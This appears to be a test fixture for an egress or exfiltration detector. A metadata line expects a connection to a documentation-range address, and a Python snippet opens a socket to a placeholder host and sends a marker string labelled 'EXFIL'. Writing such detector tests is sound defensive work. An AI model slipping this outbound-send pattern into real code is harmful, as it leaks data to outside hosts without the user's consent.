#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7:443"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
s = socket.create_connection((EXT, 443), source_address=("127.0.0.1", 0)); s.sendall(b"EXFIL"); s.close()
